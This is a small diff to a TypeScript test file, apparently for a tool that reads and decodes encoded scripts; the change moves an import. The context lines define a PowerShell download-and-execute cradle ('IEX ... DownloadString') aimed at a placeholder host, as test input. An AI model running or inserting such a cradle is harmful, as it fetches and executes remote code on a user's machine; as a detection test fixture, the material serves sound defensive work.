@@ -3,7 +3,7 @@ import { test } from 'node:test'
 import { deflateRawSync, deflateSync } from 'node:zlib'
 import type { ScriptLanguage } from '../../../src/file/formats/script/facts.ts'
 import { readScript } from '../../../src/file/formats/script/read.ts'
-import { encodeScript } from '../../../src/file/formats/script/unroll/encoded-script.ts'
+import { encodeScript } from './encode-script.ts'
 
 const wide = (text: string): string => Buffer.from(text, 'utf16le').toString('base64')
 const cradle = "IEX(New-Object Net.WebClient).DownloadString('http://files.test/q')"
